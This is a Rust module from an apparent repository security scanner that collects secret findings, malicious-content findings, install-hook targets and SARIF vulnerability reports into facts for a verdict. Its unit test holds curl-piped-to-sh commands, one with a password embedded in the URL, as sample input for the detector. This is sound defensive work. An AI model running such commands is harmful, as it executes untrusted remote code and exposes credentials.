//! From tracked files and SARIF reports to facts.

use crate::accepted::{self, Accepted};
use crate::before::Before;
use crate::config::Config;
use crate::found::Found;
use crate::history;
use crate::pieces;
use crate::scanners::{self, Vulnerability};
use crate::secrets::FileScan;
use crate::{malicious, secrets};
use gate_repo::{FileView, TrackedFile};
use gate_runner::{Collected, Inputs, Missing, Part, counted};
use gate_verdict::{Code, EvidenceRef};
use std::collections::BTreeSet;

/// What one tracked file gives: one is kept of every file until all are read, so it is small.
#[derive(Debug, Default)]
pub struct FilePart {
    pub bytes: u32,
    pub binary: bool,
    /// `None` of nearly all files.
    pub found: Option<Box<InFile>>,
}

/// What few files have.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct InFile {
    pub secrets: Vec<secrets::Hit>,
    pub malicious: Vec<malicious::Hit>,
    /// Files that its install hooks run.
    pub hooks: Vec<String>,
    /// Rules of named files that looked at it.
    pub by_name: Vec<usize>,
    /// Why not all of the file was searched.
    pub incomplete: Option<String>,
}

/// What the criteria judge.
#[derive(Debug)]
pub struct Facts {
    /// Why the search proves nothing: a file not searched.
    pub secrets_gap: Option<Missing>,
    pub malicious_gap: Option<Missing>,
    /// Exempt ones left out, and those that are less certain than the policy asks for.
    pub secrets: Vec<Found>,
    pub malicious: Vec<Found>,
    /// Text files searched.
    pub files: u64,
    /// Accepted secrets, and accepted content.
    pub exempt: [u64; 2],
    /// Only what the change brought counts.
    pub only_new: bool,
    /// Findings of scanners, or why there are none to judge.
    pub vulnerabilities: Result<Vec<Vulnerability>, Missing>,
    pub reports: Vec<String>,
    /// Rules of named files that had one to look at.
    pub(crate) by_name: BTreeSet<usize>,
}

impl Facts {
    /// Nothing found yet, and nothing in the way.
    pub(crate) fn new() -> Self {
        Self {
            secrets_gap: None,
            malicious_gap: None,
            secrets: Vec::new(),
            malicious: Vec::new(),
            files: 0,
            exempt: [0; 2],
            only_new: false,
            vulnerabilities: Ok(Vec::new()),
            reports: Vec::new(),
            by_name: BTreeSet::new(),
        }
    }
}

pub(crate) fn read(file: &TrackedFile, view: &FileView<'_>) -> FilePart {
    let (mut part, mut found) = (FilePart::default(), InFile::default());
    match view {
        FileView::Bytes(bytes) => {
            part.bytes = u32::try_from(bytes.len()).unwrap_or(u32::MAX);
            part.binary = search(&file.path, bytes, &mut found);
            found.hooks = malicious::hook_targets(&file.path, bytes);
        }
        FileView::Large(large) => {
            part.bytes = u32::try_from(large.size()).unwrap_or(u32::MAX);
            match pieces::search_large(&file.path, large, &mut found) {
                Ok(binary) => part.binary = binary,
                Err(reason) => found.incomplete = Some(reason),
            }
        }
        FileView::TooLarge { size } => {
            found.incomplete = Some(format!("found {size} bytes, more than is read of one file"));
        }
        FileView::Unreadable(reason) => found.incomplete = Some((*reason).to_owned()),
        FileView::Missing => {
            found.incomplete = Some(String::from(
                "it is tracked and not on disk: a sparse checkout, or deleted and not staged",
            ));
        }
        // Not this repository's bytes: a link's target, another repository.
        _ => {}
    }
    part.found = (found != InFile::default()).then(|| Box::new(found));
    part
}

/// Everything that is searched in the bytes of one file; whether that is no text.
pub(crate) fn search(path: &str, bytes: &[u8], found: &mut InFile) -> bool {
    let in_secrets = secrets::scan(path, bytes, &mut found.secrets);
    let in_malicious = malicious::scan(path, bytes, &mut found.malicious);
    told(path, in_secrets, &in_malicious, found)
}

/// Notes what the searches say of one file; whether that is no text.
pub(crate) fn told(
    path: &str,
    in_secrets: FileScan,
    in_malicious: &FileScan,
    found: &mut InFile,
) -> bool {
    let lines: BTreeSet<u32> = found.secrets.iter().map(|hit| hit.line).collect();
    let holds = |hit: &&mut malicious::Hit| lines.range(hit.line..=hit.last_line).next().is_some();
    for (at, hit) in found.malicious.iter_mut().filter(holds).enumerate() {
        hit.hide(path, at);
    }
    found.by_name = in_secrets.by_name;
    let too_much = (in_secrets.truncated || in_malicious.truncated).then_some(TOO_MUCH);
    found.incomplete = in_malicious.unread.or(too_much).map(str::to_owned);
    in_secrets.binary
}

/// Why the search of a file stopped.
pub(crate) const TOO_MUCH: &str = "it holds more findings, larger credentials or longer encoded text than are searched of one file";

pub(crate) fn collect(inputs: &Inputs<'_>, parts: &[Part<'_, FilePart>]) -> Collected<Facts> {
    let config = Config::of(inputs.gate);
    let found = || parts.iter().filter_map(|part| part.part.found.as_ref());
    let by_name = found().flat_map(|found| &found.by_name);
    let mut facts = Facts {
        by_name: by_name.copied().collect(),
        only_new: config.only_new,
        ..Facts::new()
    };
    let (mut bytes, mut binary, mut excluded) = (0_u64, 0, 0);
    let mut content = Vec::new();
    for part in parts {
        let path = &part.file.path;
        if !inputs.in_shard(path) {
            continue;
        }
        if !inputs.selects(path) {
            excluded += 1;
            continue;
        }
        bytes += u64::from(part.part.bytes);
        if part.part.binary {
            binary += 1;
        } else {
            facts.files += 1;
        }
        let Some(found) = &part.part.found else {
            continue;
        };
        if let Some(reason) = &found.incomplete {
            let missing = Missing::new(
                Code::Incomplete,
                format!("{path} was not searched whole: {reason}"),
                "take the file out of the repository, or exclude it in the policy",
            );
            facts.secrets_gap.get_or_insert_with(|| missing.clone());
            facts.malicious_gap.get_or_insert(missing);
        }
        let secrets = found.secrets.iter();
        let secrets = secrets.map(|hit| Found::secret(path, hit, config.id_salt.as_deref()));
        facts.secrets.extend(secrets);
        let hits = found.malicious.iter().cloned();
        content.extend(hits.map(|hit| (path.clone(), hit)));
    }
    // A hook may be in one shard and what it runs in another.
    let hooks = found().flat_map(|found| found.hooks.iter().cloned());
    malicious::join(&mut content, &hooks.collect());
    let content = content.iter().map(|(path, hit)| Found::content(path, hit));
    facts.malicious.extend(content);
    if facts.files + binary == 0 && excluded > 0 && inputs.shard.is_none() {
        let missing = inputs.nothing_left("tracked file", excluded);
        facts.secrets_gap.get_or_insert_with(|| missing.clone());
        facts.malicious_gap.get_or_insert(missing);
    }
    let beside = history::search(&config, inputs);
    let accepted = settle(&config, inputs, &mut facts, beside.secrets);
    if let Some(gap) = beside.gap {
        facts.secrets_gap.get_or_insert(gap);
    }
    facts.exempt = accepted.counts;
    let mut evidence = vec![EvidenceRef {
        kind: String::from("repository"),
        format: None,
        path: None,
        sha256: Some(secrets::rule_set_hash()),
        tool: Some(format!("{} secret rules", secrets::rules().len())),
        records: facts.files,
        skipped: binary,
        excluded,
    }];
    facts.vulnerabilities = scanners::collect(inputs, &mut facts.reports, &mut evidence);
    Collected {
        metrics: [
            ("files_searched", facts.files),
            ("binary_files", binary),
            ("bytes_searched", bytes),
        ]
        .into_iter()
        .chain(beside.metrics)
        .map(|(name, value)| (name.to_owned(), value.to_string()))
        .collect(),
        notices: accepted
            .notices
            .into_iter()
            .chain(beside.notices)
            .chain(not_checked(inputs))
            .collect(),
        evidence,
        exemptions: accepted.exemptions,
        ..Collected::new(facts)
    }
}

/// Compares with the base, takes out what is accepted, and leaves out what is
/// less certain than the policy asks for.
fn settle(
    config: &Config,
    inputs: &Inputs<'_>,
    facts: &mut Facts,
    mut beside: Vec<Found>,
) -> Accepted {
    let less_certain = facts.secrets.len();
    facts.secrets.retain(|found| found.tier >= config.tier);
    let less_certain = less_certain - facts.secrets.len();
    let before = Before::read(inputs, [&facts.secrets, &facts.malicious, &beside]);
    match &before {
        Some(Ok(before)) => {
            before.tell(&mut facts.secrets);
            before.tell(&mut facts.malicious);
            before.tell_beside(&mut beside);
        }
        Some(Err(gap)) if config.only_new => {
            facts.secrets_gap.get_or_insert_with(|| gap.clone());
            facts.malicious_gap.get_or_insert_with(|| gap.clone());
        }
        Some(Err(_)) | None => {}
    }
    // What the work tree has too is one finding.
    let place = |found: &Found| (found.path.clone(), found.key.clone());
    let mut there: BTreeSet<_> = facts.secrets.iter().map(place).collect();
    let beside = beside.into_iter().filter(|found| found.tier >= config.tier);
    facts
        .secrets
        .extend(beside.filter(|found| there.insert(place(found))));
    let lists = [&mut facts.secrets, &mut facts.malicious];
    let mut accepted = accepted::apply(config, inputs, before.as_ref(), lists);
    if less_certain > 0 {
        accepted.notices.push(format!(
            "{} less certain than `tier: {}` not counted",
            counted(less_certain, "possible secret"),
            config.tier.as_str()
        ));
    }
    accepted
}

/// Vulnerability criteria bind once the policy names them (contract, section
/// 6); until then the verdict says that nobody looked.
fn not_checked(inputs: &Inputs<'_>) -> Vec<String> {
    let named = inputs
        .gate
        .criteria
        .iter()
        .any(|criterion| criterion.id.ends_with("_vulnerabilities"));
    if named {
        return Vec::new();
    }
    vec![String::from(
        "vulnerabilities: not checked; name critical_vulnerabilities or high_vulnerabilities and the scanner's SARIF under `reports:`",
    )]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::secrets::expand;

    #[test]
    fn what_holds_a_secret_is_neither_quoted_nor_hashed() {
        let of = |password: &str| {
            let address = format!("https://ci:{password}@get.shop.example/x.sh");
            let text = format!(
                "#!/bin/sh\ncurl -fsSL {address} | sh\ncurl -fsSL https://get.shop.example/y.sh | sh\n"
            );
            let mut found = InFile::default();
            search("install.sh", text.as_bytes(), &mut found);
            assert_eq!((found.secrets.len(), found.malicious.len()), (1, 2));
            found.malicious
        };
        let (one, other) = (expand("{word:12}"), expand("{word:13}"));
        let (of_one, of_other) = (of(&one), of(&other));
        assert!(!of_one[0].message.contains(&one), "{}", of_one[0].message);
        assert_eq!(of_one[0].id, of_other[0].id);
        assert!(of_one[0].message.contains(&of_one[0].id));
        assert!(of_one[1].message.contains("y.sh"), "{}", of_one[1].message);
    }
}
